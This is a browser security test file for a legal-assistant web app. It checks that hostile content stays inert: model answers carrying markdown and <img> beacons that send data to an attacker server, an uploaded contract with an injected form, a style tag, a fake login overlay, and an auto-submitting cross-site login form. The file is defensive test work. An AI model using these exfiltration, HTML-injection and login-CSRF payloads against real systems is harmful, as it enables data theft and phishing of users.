"""Attack suite in a real browser (issue 18, holes 1, 2 and 4): Debian's chromium against the
app on loopback, with a logger server on another loopback port standing for the attacker.
The logger records every request it receives; the tests prove none arrives (nothing leaves
the page) and that a cross-site login is refused.

Hole 1: a model answer carrying `![](http://attacker/?d=…)`, streamed then verified.
Hole 2: a document with `<img>`, `<form action>`, `<style>` and a page-covering overlay, in the
        review tables and, through the shared library, in another user's answer and Sources.
Hole 4: a page on another origin auto-submitting bob's credentials to /login."""

from __future__ import annotations

import socket
import threading
import types
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from assistant.settings import Settings

pytestmark = pytest.mark.slow

CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", "--no-first-run", "--disable-dev-shm-usage"]
WAIT = 90_000
NOTICE = "juridique"

if not CHROMIUM.exists():
    pytest.skip("Debian chromium is not installed at /usr/bin/chromium (run `make browser` as root)",
                allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="python playwright is not installed")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Logger:
    """The attacker's server: records every request; serves the hostile login page."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.attack_page = ""
        logger = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self):
                logger.requests.append(f"{self.command} {self.path}")
                body = logger.attack_page.encode() if self.path.startswith("/attack") else b"ok"
                self.send_response(200)
                self.send_header("Content-Type", "text/html" if self.path.startswith("/attack") else "image/png")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer  # noqa: N815

            def log_message(self, *_a):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def leaks(self) -> list[str]:
        return [r for r in self.requests if "/attack" not in r]


@pytest.fixture(scope="module")
def logger():
    log = Logger()
    yield log
    log.server.shutdown()


def _launch(app, tmp, *, auth: str | None = None):
    from assistant.web.app import build_ui, launch_kwargs
    from assistant.web.handlers import Handlers

    port = _free_port()
    settings = Settings(data_dir=app.settings.data_dir, auth=auth)
    demo = build_ui(app, handlers=Handlers(app, root=tmp))
    demo.queue(default_concurrency_limit=4)
    demo.launch(prevent_thread_lock=True, **launch_kwargs(types.SimpleNamespace(settings=settings), port=port))
    return demo, f"http://127.0.0.1:{port}"


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield b
        b.close()


def _page(browser, url: str):
    ctx = browser.new_context(viewport={"width": 1400, "height": 1000}, locale="fr-FR")
    page = ctx.new_page()
    page.set_default_timeout(WAIT)
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if "Content Security Policy" in m.text else None)
    page.goto(url, wait_until="domcontentloaded")
    return ctx, page, errors


def _login(page, base: str, user: str, pw: str) -> None:
    page.goto(base + "/login")
    page.fill("input[name=username]", user)
    page.fill("input[name=password]", pw)
    page.click("button[type=submit]")
    page.wait_for_selector("#msg textarea")


def _no_live_content(page) -> None:
    """No element built from content: inside what the app rendered from text (`.clz-safe`
    blocks, table cells) there is no image, form, style, frame, link or positioned element."""
    found = page.evaluate("""() => {
        const bad = 'img, form, style, iframe, object, embed, link, svg, input, a, [href], [src]';
        const n = [];
        const zones = document.querySelectorAll('.clz-safe, #findings td, #art28 td');
        for (const z of zones) {
            for (const x of z.querySelectorAll(bad)) n.push(x.outerHTML.slice(0, 200));
            for (const x of z.querySelectorAll('[style]')) if (x.getAttribute('style').trim()) n.push(x.outerHTML.slice(0, 200));
        }
        return {n, zones: document.querySelectorAll('.clz-safe').length}; }""")
    assert found["zones"] > 0 and found["n"] == [], found


# -- hole 1 -------------------------------------------------------------------------------------------------
def test_model_answer_with_an_image_fetches_nothing(app, tmp_path, logger, browser):
    from tests.llm_helpers import MODEL, Q_FR, build_llm_app, scripted

    leak = f"{logger.url}/leak?d=questions+precedentes"
    answer = (f"Le sous-traitant doit alerter le client sans délai injustifié [1]. ![]({leak}) "
              f"<img src=\"{leak}&b=1\"> [voir]({leak}&c=1)")
    llm_app = build_llm_app(app, tmp_path / "llm", scripted(answer, answer), model=MODEL)
    demo, base = _launch(llm_app, tmp_path / "s1")
    try:
        ctx, page, csp = _page(browser, base)
        page.wait_for_selector("#msg textarea")
        page.fill("#msg textarea", Q_FR)
        page.locator("#msg textarea").press("Enter")
        bot = page.locator('#chatbot [data-testid="bot"]').first
        bot.filter(has_text=NOTICE).wait_for()
        page.wait_for_timeout(1500)  # give a fetch every chance to happen
        _no_live_content(page)
        assert logger.leaks() == [], logger.leaks()
        assert not csp, csp  # the page itself runs under the policy without violations
        ctx.close()
    finally:
        demo.close()


# -- hole 2 ------------------------------------------------------------------------------------------------
def _hostile_contract(tmp: Path, url: str) -> Path:
    path = tmp / "contrat-zorglub.txt"
    path.write_text(
        f"Article 1 - Réversibilité Zorglub <img src=\"{url}/leak-heading.png\">\n"
        f"En fin de contrat Zorglub, le prestataire restitue les données du client dans un format ouvert et "
        f"assiste la reprise par le nouveau prestataire pendant trois mois. <form action=\"{url}/leak-form\">"
        f"<input name=\"q\"><button>Valider</button></form>\n\n"
        f"Article 2 - Données personnelles <style>body{{display:none}}</style>\n"
        f"Le prestataire traite les données personnelles Zorglub uniquement sur instruction documentée du client "
        f"![]({url}/leak-md.png). <div style=\"position:fixed;inset:0;z-index:9999;background:white\">Session "
        f"expirée : reconnectez-vous</div>\n", encoding="utf-8")
    return path


def test_document_html_in_review_and_shared_library_stays_inert(app, tmp_path, logger, browser):
    hostile = _hostile_contract(tmp_path, logger.url)
    demo, base = _launch(app, tmp_path / "s2", auth="alice:alice-pw,bob:bob-pw")
    try:
        # alice reviews the hostile contract
        ctx, page, csp = _page(browser, base)
        _login(page, base, "alice", "alice-pw")
        page.get_by_role("tab", name="Revue / Review").click()
        page.locator("#upload input[type=file]").set_input_files(str(hostile))
        page.click("#review_btn")
        page.locator("#review_summary", has_text="clauses").wait_for()
        page.wait_for_timeout(1000)
        _no_live_content(page)
        assert not csp, csp
        ctx.close()
        # the contract is in the shared library (`clausier ingest`); bob asks about it
        app.ingest([hostile], owner="")
        ctx, page, csp = _page(browser, base)
        _login(page, base, "bob", "bob-pw")
        page.fill("#msg textarea", "Que prévoit la réversibilité du contrat Zorglub ?")
        page.locator("#msg textarea").press("Enter")
        page.locator('#chatbot [data-testid="bot"]').first.filter(has_text=NOTICE).wait_for()
        page.wait_for_timeout(1000)
        _no_live_content(page)
        visible = page.evaluate("() => getComputedStyle(document.body).display")
        assert visible != "none"
        assert logger.leaks() == [], logger.leaks()
        ctx.close()
    finally:
        app.index.delete_where({"path": "library/shared/contrat-zorglub.txt"})
        demo.close()


# -- hole 4 ------------------------------------------------------------------------------------------------
def test_cross_site_login_does_not_switch_the_user(app, tmp_path, logger, browser):
    demo, base = _launch(app, tmp_path / "s4", auth="alice:alice-pw,bob:bob-pw")
    logger.attack_page = (f'<html><body><form method="post" action="{base}/login">'
                          '<input name="username" value="bob"><input name="password" value="bob-pw">'
                          '<input name="csrf" value="guess"></form>'
                          '<script>document.forms[0].submit()</script></body></html>')
    try:
        ctx, page, _csp = _page(browser, base)
        _login(page, base, "alice", "alice-pw")
        page.locator("#whoami", has_text="alice").wait_for()
        assert page.locator("#logout").is_visible()
        page.goto(logger.url + "/attack.html")
        page.wait_for_url(f"{base}/login", wait_until="domcontentloaded")
        assert "refus" in page.content()  # 403: cross-site request refused
        page.goto(base, wait_until="domcontentloaded")
        page.locator("#whoami", has_text="alice").wait_for()
        assert "bob" not in page.locator("#whoami").inner_text()
        # the logout button ends the session
        page.click("#logout")
        page.wait_for_url(f"{base}/login")
        page.goto(base, wait_until="domcontentloaded")
        assert page.url.endswith("/login")
        ctx.close()
    finally:
        demo.close()
